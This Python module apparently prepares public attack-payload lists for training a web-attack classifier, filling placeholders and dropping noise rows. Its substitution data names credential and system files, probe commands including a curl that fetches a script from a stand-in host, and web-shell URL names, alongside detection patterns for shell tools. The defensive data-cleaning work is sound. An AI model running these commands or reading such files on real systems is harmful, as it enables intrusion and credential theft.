"""What public lists need before one may learn from them: placeholders filled, noise left out.

Rules, all of them blind to any model:

- placeholders of list makers (``{FILE}``, ``XXpathXX``, ``__TIME__``) and of scanners'
  templates (``{{randbase(8)}}``, call-back domains) become ordinary values, since they
  would give the label away;
- a payload of fewer than three characters, of one word or number, or of plain words
  (headings and event names in the lists) is dropped, unless the words are SQL or a command;
- markup without anything active in it is dropped from the lists of cross-site scripting.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from random import Random

from securitai.features.trivial import trivial
from securitai.train.corpora.envelopes import atoms
from securitai.verdict import Category

_FILES = ("/etc/passwd", "etc/passwd", "boot.ini", "windows/win.ini", "etc/shadow", "WEB-INF/web.xml", ".env", "var/log/auth.log", "proc/self/environ", "config.php", "windows\\system32\\drivers\\etc\\hosts", "home/user/.ssh/id_rsa", "app/config/parameters.yml", "usr/local/app/settings.py")  # fmt: skip
_COMMANDS = ("id", "whoami", "cat /etc/passwd", "uname -a", "ping -c 3 127.0.0.1", "ls -la /", "sleep 5", "dir", "ipconfig /all", "curl http://198.51.100.7/a.sh", "net user")  # fmt: skip


def _host(rng: Random) -> str:
    return f"{atoms.word(rng)}{rng.randrange(99)}.{rng.choice(('com', 'net', 'xyz', 'io', 'ru', 'top'))}"


def _shell_url(rng: Random) -> str:
    name = rng.choice(("shell.txt", "c99.txt", "r57.txt", "cmd.gif", "id.txt", "x.php", "s"))
    return f"{rng.choice(('http', 'https', 'ftp', 'http'))}://{_host(rng)}/{name}{rng.choice(('', '?', '%00'))}"


_PLACEHOLDERS: tuple[tuple[re.Pattern[str], Callable[[Random], str]], ...] = (
    (re.compile(r"\{file\}", re.I), lambda r: r.choice(_FILES)),
    (re.compile(r"=?XXpathXX"), lambda r: f"={_shell_url(r)}"),
    (re.compile(r"__TIME__|\[TIME\]|\[SLEEPTIME\]"), lambda r: str(r.choice((2, 3, 5, 7, 10, 15)))),
    (re.compile(r"\{cmd\}"), lambda r: r.choice(_COMMANDS)),
    (re.compile(r"\bHOST:PORT\b|XXXxenotixXXX"), _host),
    (re.compile(r"\{SQLINJ\}"), lambda _: ""),
    (
        re.compile(r"\{\{\s*(?:rand|oob|trim|base64|date_time|unix_time|interactsh|to_lower|md5\(|sha\d|hex_|url_encode|generate_|concat\(|replace\(|http_|username|password|hostname|marker|padding|token|cookie|csrf|nonce|session|version|path|file)[^{}]{0,200}\}\}", re.I),
        lambda r: atoms.token(r, 5, 12).strip("=/+"),
    ),
    (re.compile(r"\b(?:[\w-]+\.)*(?:interact\.sh|interactsh\.com|oast\.\w+|burpcollaborator\.net|dnslog\.cn|xss\.rocks|ha\.ckers\.org|projectdiscovery\.io|ceye\.io)\b", re.I), _host),
    (re.compile(r"\b(?:projectdiscovery|pdteam|afrog|nuclei|xenotix|rsnake)\b", re.I), atoms.word),
)  # fmt: skip
_MARK = re.compile(r"[{\[]|XX|__|HOST|\.(?:sh|me|net|cn|rocks|org|io|com|pro|fun|live|site|online|us)\b|projectdisc|pdteam|afrog|nuclei|xenotix|rsnake", re.I)  # fmt: skip

_HEADINGS = ("Exploit Name:", "Exploit Description:", "Exploit Tags:")
_PLAIN = re.compile(r"[\w\s,.:!?'\"’“”\-]*")
_XSS_MARKS = re.compile(r"[<>\"'()=%\\`{}\[\]&]|\+AD[w4A]")
_SQL_WORDS = re.compile(r"(?:\b|\d)(union\s+(all\s+)?select|order\s+by\s+\d|group\s+by\s+\d|select\b.*\bfrom|insert\s+into|drop\s+table|waitfor\s+delay|having\s+\d|or\s+(?:\d|true)|and\s+\d|--\s*$|delete\s+from)", re.I | re.S)  # fmt: skip
_COMMAND_WORDS = re.compile(r"\s*(ls|cat|id|uname|ping|sleep|whoami|wget|curl|nc|ncat|netstat|net|dir|type|ps|echo|ifconfig|ipconfig|nslookup|phpinfo|systeminfo|tasklist|perl|python|bash|sh|rm|chmod)\s+\S", re.I)  # fmt: skip
_ACTIVE = re.compile(r"script|\bon[a-z]{3,}|javascript|vbscript|data:|expression|eval|alert|prompt|confirm|srcdoc|@?import|xlink|&#|\\x|\\u|%[23]c|document|window|location|behavior|-moz-binding|src\s*=|href\s*=\s*[\"']?//|string\.from|url\(|behaviou?r|meta|iframe|fetch|svg|embed|object|setinterval|settimeout|function|=>|jquery|\$\(|\[\]|`|\{\{|__proto__|constructor", re.I)  # fmt: skip
_MARKUP_ONLY = re.compile(r"\s*<(?:a|div|b|i|p|span|br|hr|ul|li|h\d|table|td|tr|html|head|body|title)\b[^>]*>[^<]*(?:</\w+>)?\s*(?:<!--.*-->)?\s*", re.I)  # fmt: skip
_SHELL = re.compile(r"[;|&`]\s*\w|\$\(|\b(cat|id|whoami|curl|wget|ping|ls|nslookup|uname|expr|echo|sleep|ipconfig|netstat|bash|cmd)\b(?=[\s+%/|;&\"']|$)", re.I)  # fmt: skip
_CODE = re.compile(r"<\?php|<%|eval\(|assert\(|java\.|ognl|#_memberaccess|runtime|processbuilder|system\(|exec\(|passthru|__import__|require\(|%\{|\$\{|call_user_func|invokefunction|classloader|script-?engine|groovy|t\(java", re.I)  # fmt: skip

_CATEGORIES = {
    "sqli": Category.SQLI, "nosqli": Category.NOSQLI, "xss": Category.XSS, "lfi": Category.PATH_TRAVERSAL,
    "path_traversal": Category.PATH_TRAVERSAL, "rfi": Category.RFI, "cmdi": Category.CMDI, "ssti": Category.SSTI, "xxe": Category.XXE,
    "ssrf": Category.SSRF, "ldapi": Category.LDAPI, "crlf": Category.CRLF, "log4shell": Category.LOG4SHELL, "file_upload": Category.FILE_UPLOAD,
    "other": Category.OTHER,
}  # fmt: skip


def filled(rng: Random, text: str) -> str:
    """The text with ordinary values in place of placeholders and scanners' names."""
    text = text.removeprefix("Exploit String: ")
    if not _MARK.search(text):
        return text
    for pattern, make in _PLACEHOLDERS:
        text = pattern.sub(lambda _, make=make: make(rng), text)  # type: ignore[misc]
    return text


def noise(text: str, label: int, category: str) -> bool:
    """True for a row of a payload list whose label cannot be right (see the rules above)."""
    bare = text.strip()
    if not bare or (label and bare.startswith(_HEADINGS)):
        return True
    if not label:
        return False
    if len(bare) < 3 or trivial(bare):
        return True
    if category == "cmdi" and _PLAIN.fullmatch(bare):
        return not _COMMAND_WORDS.match(bare)
    if category in ("sqli", "nosqli") and _PLAIN.fullmatch(bare):
        return not (_SQL_WORDS.search(bare) or "'" in bare or '"' in bare)
    if category == "xss":
        inert = _MARKUP_ONLY.fullmatch(bare) and not _ACTIVE.search(bare)
        return bool(inert) or not _XSS_MARKS.search(bare)
    return bool(category not in ("lfi", "path_traversal") and _PLAIN.fullmatch(bare))


def category_of(name: str, text: str, label: int) -> Category | None:
    """Our class for another's; what is spoken of as remote code execution is looked at."""
    if not label:
        return None
    low = text.lower()
    if "jndi:" in low or "${${" in low:
        return Category.LOG4SHELL
    if re.search(r"\(\)\s*\{\s*:?.{0,4};\s*\}\s*;", low):
        return Category.SHELLSHOCK
    if name == "rce":
        if _CODE.search(text):
            return Category.CODE_INJECTION
        return Category.CMDI if _SHELL.search(text) else Category.CODE_INJECTION
    if name == "other" and "__proto__" in low:
        return Category.PROTOTYPE_POLLUTION
    return _CATEGORIES.get(name, Category.OTHER)
